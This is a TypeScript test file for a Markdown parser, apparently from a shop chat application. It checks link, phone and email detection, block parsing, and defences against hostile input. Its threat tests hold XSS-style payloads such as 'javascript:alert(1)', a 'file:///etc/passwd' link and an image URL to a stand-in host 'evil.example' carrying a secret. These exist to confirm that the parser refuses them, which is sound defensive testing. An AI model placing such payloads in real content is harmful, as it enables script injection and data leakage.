import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { safePage, shortAddress } from '../../desktop/renderer/ui/web-address.ts'
import { inOneLine, parseMarkdown, parsePlain } from '../../shared/markdown.ts'
import { parseAddresses, parseInline } from '../../shared/markdown-inline.ts'
import { safeAddress } from '../../shared/safe-address.ts'
import { hostileTexts } from '../support/hostile.ts'

const link = (address: string, text = address) => ({ kind: 'link', address, inline: [text] })

/** All addresses of a tree, at any depth. */
function addressesIn(tree: unknown): string[] {
  if (Array.isArray(tree)) return tree.flatMap(addressesIn)
  if (typeof tree !== 'object' || tree === null) return []
  const own = 'address' in tree ? [String(tree.address)] : []
  return [...own, ...Object.values(tree).flatMap(addressesIn)]
}

describe('within a line', () => {
  test('bold, italic, code and links are read; what is not closed stays as it was written', () => {
    expect(parseInline('a **b** _c_ `d*`')).toEqual([
      'a ',
      { kind: 'strong', inline: ['b'] },
      ' ',
      { kind: 'em', inline: ['c'] },
      ' ',
      { kind: 'code', text: 'd*' },
    ])
    expect(parseInline('2 * 3 ** 4 `open [label](')).toEqual(['2 * 3 ** 4 `open [label]('])
    expect(parseInline('[film](https://a.example/b_(c))')).toEqual([link('https://a.example/b_(c)', 'film')])
    expect(parseInline('snake_case_name')).toEqual(['snake_case_name'])
    expect(parseInline('\\*not\\*')).toEqual(['*not*'])
    expect(parseInline('see [the page](https://shop.example/a "title").')).toEqual([
      'see ',
      link('https://shop.example/a', 'the page'),
      '.',
    ])
  })

  test('a bare address is a link without the sentence’s punctuation', () => {
    const found = ['at ', link('https://shop.example/a', 'https://shop.example/a'), '.']
    expect(parseInline('at https://shop.example/a.')).toEqual(found)
    expect(parseAddresses('at https://shop.example/a.')).toEqual(found)
    expect(parseAddresses('**no** _Markdown_')).toEqual(['**no** _Markdown_'])
  })

  test.each([
    ['Call: +441632960123.', '+441632960123', 'tel:+441632960123'],
    ['or +44 (0)1632 960 123 today', '+44 (0)1632 960 123', 'tel:+441632960123'],
    ['(01632) 960123', '(01632) 960123', 'tel:01632960123'],
    ['0049 30 123456', '0049 30 123456', 'tel:+4930123456'],
    ['01.23.45.67.89', '01.23.45.67.89', 'tel:0123456789'],
    ['(555) 123-4567', '(555) 123-4567', 'tel:5551234567'],
    ['Mail: info@wrenmouth.example, or', 'info@wrenmouth.example', 'mailto:info@wrenmouth.example'],
    ['**a.b+c@shop.co.uk**', 'a.b+c@shop.co.uk', 'mailto:a.b+c@shop.co.uk'],
    ['https://shop.example/+441632960123', 'https://shop.example/+441632960123', 'https://shop.example/+441632960123'],
  ])('a bare telephone number, email or web address is a link: %j', (text, shown, address) => {
    const parts = parseInline(text).flatMap((part) =>
      typeof part === 'object' && part.kind === 'strong' ? part.inline : part,
    )
    expect(parts.filter((part) => typeof part === 'object')).toEqual([link(address, shown)])
  })

  test('dates, prices, order numbers and other figures are no telephone numbers', () => {
    const figures =
      '05.11.2026 10:00, order 0123456789, £1,250.00, 2026-11-22, 10-12, +5 %, DE89 3704 0044 0532 0130 00, '
    expect(parseInline(`${figures}\`+441632960123\``)).toEqual([figures, { kind: 'code', text: '+441632960123' }])
  })

  test('a link that is not allowed is its words alone', () => {
    expect(parseInline('[a **b**](javascript:alert(1)) c')).toEqual(['a ', { kind: 'strong', inline: ['b'] }, ' c'])
  })

  test('a link holds no other link', () => {
    expect(parseInline('[https://a.example](https://b.example)')).toEqual([
      link('https://b.example/', 'https://a.example'),
    ])
  })

  test('[threat 4] a picture is its description, and its address is nowhere', () => {
    expect(parseInline('![a shoe](https://evil.example/?d=secret)')).toEqual([{ kind: 'image', text: 'a shoe' }])
    const linked = { kind: 'link', address: 'https://evil.example/go', inline: [{ kind: 'image', text: 'in' }] }
    expect(parseInline('[![in](https://evil.example/p.png)](https://evil.example/go)')).toEqual([linked])
    expect(parseInline('[![in](https://evil.example/p.png) more')).toEqual([
      '[',
      { kind: 'image', text: 'in' },
      ' more',
    ])
  })
})

describe('blocks', () => {
  test('rules, task lists and deleted text are read; what only looks like them is not', () => {
    for (const rule of ['---', '***', '_ _ _', '- - -', '----------'])
      expect(parseMarkdown(`a\n${rule}\nb`).map(({ kind }) => kind)).toEqual(['paragraph', 'rule', 'paragraph'])
    expect(parseMarkdown('- a\n---\n- b').map(({ kind }) => kind)).toEqual(['list', 'rule', 'list'])
    expect(parseMarkdown('--\n**\n-*-')).toMatchObject([{ kind: 'paragraph' }])
    expect(parseMarkdown('- [ ] a\n- [X] b\n- [y] c\n- [] d')).toMatchObject([
      { items: [{ isDone: false, inline: ['a'] }, { isDone: true, inline: ['b'] }, { inline: ['[y] c'] }, {}] },
    ])
    expect(parseInline('~~a~~ ~b~ ~~ c ~~')).toEqual([{ kind: 'del', inline: ['a'] }, ' ~b~ ~~ c ~~'])
    expect(inOneLine('a ~~b~~\n\n---\n- [x] c')).toBe('a b c')
  })

  test('paragraphs keep their lines, lists their items and numbers', () => {
    expect(parseMarkdown('one\ntwo\n\nthree')).toEqual([
      { kind: 'paragraph', lines: [['one'], ['two']] },
      { kind: 'paragraph', lines: [['three']] },
    ])
    expect(parseMarkdown('3. a\n4. b')).toMatchObject([{ kind: 'list', start: 3, items: [{}, {}] }])
    expect(parseMarkdown('- a\n  - b')).toMatchObject([
      { kind: 'list', start: undefined, items: [{ inline: ['a'], blocks: [{ kind: 'list' }] }] },
    ])
  })

  test('headings, quotations, code and tables', () => {
    expect(parseMarkdown('# A\n> b\n\n```js\nc\n```\n\n| x | y |\n|--|--|\n| 1 | 2 |')).toEqual([
      { kind: 'heading', inline: ['A'] },
      { kind: 'quote', blocks: [{ kind: 'paragraph', lines: [['b']] }] },
      { kind: 'code', text: 'c' },
      { kind: 'table', head: [['x'], ['y']], rows: [[['1'], ['2']]] },
    ])
  })

  test('a block ends the paragraph above it', () => {
    const kinds = (text: string) => parseMarkdown(text).map(({ kind }) => kind)
    for (const [next, kind] of [
      ['# A', 'heading'],
      ['> b', 'quote'],
      ['- c', 'list'],
      ['```\nd\n```', 'code'],
    ] as const)
      expect(kinds(`text\n${next}`)).toEqual(['paragraph', kind])
  })

  test('what a visitor writes is no Markdown', () => {
    expect(parsePlain('# a\n- b\n\n\n[c](https://d.example)')).toMatchObject([
      { kind: 'paragraph', lines: [['# a'], ['- b']] },
      { kind: 'paragraph', lines: [['[c](', { kind: 'link' }, expect.any(String)].filter(Boolean)] },
    ])
  })
})

test.each([
  ['Yes. An e-bike is **£74** for a weekend.', 'Yes. An e-bike is £74 for a weekend.'],
  ['# Prices\n\n- a puncture: `£14`\n- a wheel', 'Prices a puncture: £14 a wheel'],
  ['See [our page](https://x.example/p) or __call__.', 'See our page or call.'],
  ['2 * 3 * 4 = 24, snake_case and a * b', '2 * 3 * 4 = 24, snake_case and a * b'],
  ['مرحبا **بكم**', 'مرحبا بكم'],
  ['> one\ntwo\n\n| x | y |\n|--|--|\n| 1 | ![a shoe](https://x.example) |', 'one two x y 1 a shoe'],
  ['', ''],
])('a message in a row of a list is its words alone: %j', (text, line) => {
  expect(inOneLine(text)).toBe(line)
})

describe('[threat 3] whatever is written', () => {
  test('links lead to web pages, mail and telephones alone', () => {
    for (const text of hostileTexts)
      for (const address of addressesIn([parseMarkdown(text), parsePlain(text)]))
        expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(new URL(address).protocol)
    const refused = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)']
    for (const address of [
      ...refused,
      'data:text/html,x',
      'vbscript:x',
      'file:///etc/passwd',
      '//evil.example',
      '/x',
      7,
    ])
      expect(safeAddress(address)).toBeUndefined()
    expect(safeAddress('mailto:a@b.example')).toBe('mailto:a@b.example')
    expect(safePage('mailto:a@b.example')).toBeUndefined()
    expect(shortAddress('https://www.shop.example/')).toBe('shop.example')
  })

  test('it is read to its end, in a time that does not explode', () => {
    const bits = [
      '*',
      '**',
      '_',
      '`',
      '[',
      ']',
      '(',
      ')',
      '![',
      '](',
      '> ',
      '- ',
      '1. ',
      '|',
      '--',
      '\n',
      '\\',
      'a ',
      '+49 ',
      '0',
      'a@b.c',
      '@',
      'https://a.b',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...bits), { maxLength: 200 }), (parts) => {
        const tree = parseMarkdown(parts.join(''))
        for (const address of addressesIn(tree)) expect(safeAddress(address)).toBe(address)
      }),
    )
    const started = performance.now()
    for (const bit of bits) parseMarkdown(bit.repeat(Math.floor(39_999 / bit.length)))
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})
